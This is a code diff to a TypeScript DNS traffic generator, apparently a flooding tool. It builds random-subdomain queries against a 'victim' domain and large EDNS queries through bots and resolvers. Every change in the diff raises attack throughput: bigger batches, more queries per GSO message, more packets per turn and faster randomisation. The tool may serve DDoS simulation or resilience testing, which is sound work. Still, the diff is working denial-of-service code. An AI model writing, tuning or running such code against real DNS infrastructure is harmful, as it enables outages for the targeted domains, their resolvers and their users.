@@ -51,8 +51,8 @@ function byLength(names: Uint8Array[], into: Map<number, Uint8Array[]>): void {
 }
 const LABEL_CHARS = Uint8Array.from('abcdefghijklmnopqrstuvwxyz0123456789', (c) => c.charCodeAt(0));
 /** Room per message: one query, or a GSO run of up to MAX_GSO random-subdomain queries. */
-const SLOT = 1024;
-const MAX_GSO = 16;
+const SLOT = 4096;
+const MAX_GSO = 64;
 const batch = new Uint8Array(NATIVE_BATCH * SLOT);
 const offsets = Uint32Array.from({ length: NATIVE_BATCH }, (_, i) => i * SLOT);
 const lengths = new Uint16Array(NATIVE_BATCH);
@@ -63,13 +63,32 @@ const nameBuf = new Uint8Array(256);
 /** Random-subdomain queries per GSO message (1: no GSO). */
 let gso = 1;
 
+/** Writes 12 random label characters at `at` (two draws of 6 base-36 digits each). */
+function randomLabel(at: number): void {
+  for (let half = 0; half < 2; half++) {
+    let x = (rnd() * 2176782336) >>> 0; // 36^6
+    for (let j = 0; j < 6; j++) {
+      batch[at + half * 6 + j] = LABEL_CHARS[x % 36];
+      x = Math.floor(x / 36);
+    }
+  }
+}
+
+/** Writes a new ID of `kind` at `at`. */
+function writeId(at: number, kind: number): void {
+  const id = (kind << 14) | ((rnd() * 16384) >>> 0);
+  batch[at] = id >> 8;
+  batch[at + 1] = id & 255;
+}
+
 /** Writes one random-subdomain query of `kind` at `at`; returns its length. */
 function writeRandomSubdomain(at: number, kind: number): number {
   nameBuf[0] = 12;
-  for (let j = 1; j <= 12; j++) nameBuf[j] = LABEL_CHARS[Math.floor(rnd() * 36)];
   nameBuf.set(victimSuffix, 13);
-  const id = (kind << 14) | Math.floor(rnd() * 16384);
-  return writeQuery(batch, at, id, nameBuf.subarray(0, 13 + victimSuffix.length), 1);
+  const len = writeQuery(batch, at, 0, nameBuf.subarray(0, 13 + victimSuffix.length), 1);
+  writeId(at, kind);
+  randomLabel(at + 13);
+  return len;
 }
 
 /**
@@ -82,9 +101,15 @@ function build(i: number, kind: number, room: number): number {
   let count = 1;
   segs[i] = 0;
   if (kind === 0 || kind === 1) {
+    // The first query written in full; the others copies of it with their own ID and label.
     count = Math.max(1, Math.min(gso, room));
-    let len = 0;
-    for (let j = 0; j < count; j++) len = writeRandomSubdomain(at + j * len, kind);
+    const len = writeRandomSubdomain(at, kind);
+    for (let j = 1; j < count; j++) {
+      const q = at + j * len;
+      batch.copyWithin(q, at, at + len);
+      writeId(q, kind);
+      randomLabel(q + 13);
+    }
     lengths[i] = len * count;
     if (count > 1) segs[i] = len;
   } else {
@@ -94,11 +119,13 @@ function build(i: number, kind: number, room: number): number {
     const first = names[Math.floor(rnd() * names.length)];
     const bucket = (large ? bigByLength : validByLength).get(first.length) ?? [first];
     count = Math.max(1, Math.min(gso, room));
-    let len = 0;
-    for (let j = 0; j < count; j++) {
-      const name = j === 0 ? first : bucket[Math.floor(rnd() * bucket.length)];
-      const id = (kind << 14) | Math.floor(rnd() * 16384);
-      len = writeQuery(batch, at + j * len, id, name, large ? 16 : 1, large ? { size: 4096 } : undefined);
+    const len = writeQuery(batch, at, 0, first, large ? 16 : 1, large ? { size: 4096 } : undefined);
+    writeId(at, kind);
+    for (let j = 1; j < count; j++) {
+      const q = at + j * len;
+      batch.copyWithin(q, at, at + len);
+      writeId(q, kind);
+      if (bucket.length > 1) batch.set(bucket[(rnd() * bucket.length) >>> 0], q + 12);
     }
     lengths[i] = len * count;
     if (count > 1) segs[i] = len;
@@ -222,8 +249,8 @@ function loop(): void {
     phaseSent += due - slack;
     due = slack;
   }
-  // At most 1024 per turn, then the answers are drained (the socket buffer holds only so many).
-  let budget = Math.floor(Math.min(due, 1024, cfg.maxPackets - total));
+  // At most 4096 per turn, then the answers are drained (the socket buffer holds only so many).
+  let budget = Math.floor(Math.min(due, 4096, cfg.maxPackets - total));
   while (budget > 0) {
     const k = sendBatch(budget);
     phaseSent += k;
@@ -394,8 +421,12 @@ process.on('message', async (msg: { type: string } & Record<string, unknown>) =>
       }
       await openNode(cfg);
     }
+    const ports = addon
+      ? [addon.port(fd)].filter((x) => x > 0)
+      : [...nodeSockets.values()].map((s) => s.address().port);
     process.send?.({
       type: 'ready',
+      ports,
       io: addon ? (gso > 1 ? `native-gso${gso}` : 'native') : 'node',
       sources: cfg.family === 6 ? 1 : addon ? cfg.bots + cfg.resolverAddresses.length : nodeSockets.size,
     });
